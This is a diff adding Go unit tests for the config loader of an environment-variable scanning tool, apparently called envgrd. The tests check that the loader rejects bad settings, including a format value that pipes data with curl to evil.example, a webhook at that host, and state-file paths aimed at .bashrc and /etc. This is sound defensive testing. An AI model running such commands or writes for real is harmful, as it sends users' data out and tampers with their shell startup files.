@@ -0,0 +1,121 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestLoadConfig_Precedence(t *testing.T) {
+	tmpDir := t.TempDir()
+	configPath := filepath.Join(tmpDir, ".envgrd.config")
+	if err := os.WriteFile(configPath, []byte("precedence:\n  - exported\n  - env\n  - docker-compose\n"), 0644); err != nil {
+		t.Fatalf("Failed to write config: %v", err)
+	}
+
+	cfg, err := LoadConfig(tmpDir)
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if strings.Join(cfg.Precedence, ",") != "exported,env,docker-compose" {
+		t.Errorf("Unexpected precedence: %v", cfg.Precedence)
+	}
+
+	for content, wantErr := range map[string]string{
+		"precedence:\n  - dotenv\n":       "unknown source",
+		"precedence:\n  - env\n  - env\n": "listed more than once",
+	} {
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write config: %v", err)
+		}
+		if _, err := LoadConfig(tmpDir); err == nil || !strings.Contains(err.Error(), wantErr) {
+			t.Errorf("Expected %q error for %q, got %v", wantErr, content, err)
+		}
+	}
+}
+
+func TestLoadConfig_ScanSettings(t *testing.T) {
+	tmpDir := t.TempDir()
+	configPath := filepath.Join(tmpDir, ".envgrd.config")
+	content := "include: [\"src/**\", \"lib/{a,b}/*.go\"]\nfail_on: [missing]\nskip_unused: true\nno_dynamic: false\nconcurrency: 4\ntimeout: 30s\nformat: json\n"
+	if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write config: %v", err)
+	}
+
+	cfg, err := LoadConfig(tmpDir)
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	want := map[string]string{
+		"include":     `src/**,"lib/{a,b}/*.go"`,
+		"fail-on":     "missing",
+		"skip-unused": "true",
+		"no-dynamic":  "false",
+		"concurrency": "4",
+		"timeout":     "30s",
+		"format":      "json",
+	}
+	got := cfg.ScanSettings.Flags()
+	if len(got) != len(want) {
+		t.Errorf("Expected %d flags, got %v", len(want), got)
+	}
+	for name, value := range want {
+		if got[name] != value {
+			t.Errorf("Flag %s = %q, want %q", name, got[name], value)
+		}
+	}
+
+	for content, wantErr := range map[string]string{
+		"timeout: soon\n":                                   "invalid timeout",
+		"concurrency: -1\n":                                 "must not be negative",
+		"max_depth: -2\n":                                   "must not be negative",
+		"max_locations: -1\n":                               "must not be negative",
+		"show_values: sometimes\n":                          "unknown show_values",
+		"redaction:\n  - keys: [X]\n    action: blur\n":     "unknown action",
+		"redaction:\n  - values: \"(\"\n    action: hide\n": "invalid values expression",
+		"templates: [\"nginx/[\"]\n":                        "bad glob",
+		"services:\n  api:\n    dirs: [../api]\n":           "not a directory below the scan root",
+		"services:\n  api:\n    manifests: [\"k8s/[\"]\n":   "invalid services",
+		"env_files:\n  exclude: [\".env.[\"]\n":             "invalid env_files",
+		"exclude: [\"src/{a,b\"]\n":                         "invalid exclude",
+		"include: [\"src/**\", \"!\"]\n":                    "invalid include",
+		"extensions:\n  .mts: \"\"\n":                       "no language for .mts",
+		"extensions:\n  \".\": typescript\n":                "not a file extension",
+		"format: \"exec:curl -d @- evil.example\"\n":        "runs a command",
+		"notify_webhook: https://evil.example/hook\n":       "only be set with --notify-webhook",
+		"state_file: ../../.bashrc\n":                       "only be set with --state-file",
+		"state_file: /etc/envgrd-state.json\n":              "only be set with --state-file",
+		"cache_dir: /tmp/elsewhere\n":                       "only be set with --cache-dir",
+	} {
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write config: %v", err)
+		}
+		if _, err := LoadConfig(tmpDir); err == nil || !strings.Contains(err.Error(), wantErr) {
+			t.Errorf("Expected %q error for %q, got %v", wantErr, content, err)
+		}
+	}
+}
+
+func TestLoadConfig_EnvFiles(t *testing.T) {
+	for content, want := range map[string]EnvFilesConfig{
+		"env_files: [config/app.env]\n":                                   {Files: []string{"config/app.env"}},
+		"env_files: config/app.env\n":                                     {Files: []string{"config/app.env"}},
+		"env_files:\n  files: [config/app.env]\n  exclude: [.env.test]\n": {Files: []string{"config/app.env"}, Exclude: []string{".env.test"}},
+		"env_files:\n  exclude: [\"fixtures/**\"]\n":                      {Exclude: []string{"fixtures/**"}},
+	} {
+		tmpDir := t.TempDir()
+		if err := os.WriteFile(filepath.Join(tmpDir, FileName), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write config: %v", err)
+		}
+		cfg, err := LoadConfig(tmpDir)
+		if err != nil {
+			t.Errorf("LoadConfig(%q) failed: %v", content, err)
+			continue
+		}
+		if !reflect.DeepEqual(cfg.EnvFiles, want) {
+			t.Errorf("LoadConfig(%q) env_files = %+v, want %+v", content, cfg.EnvFiles, want)
+		}
+	}
+}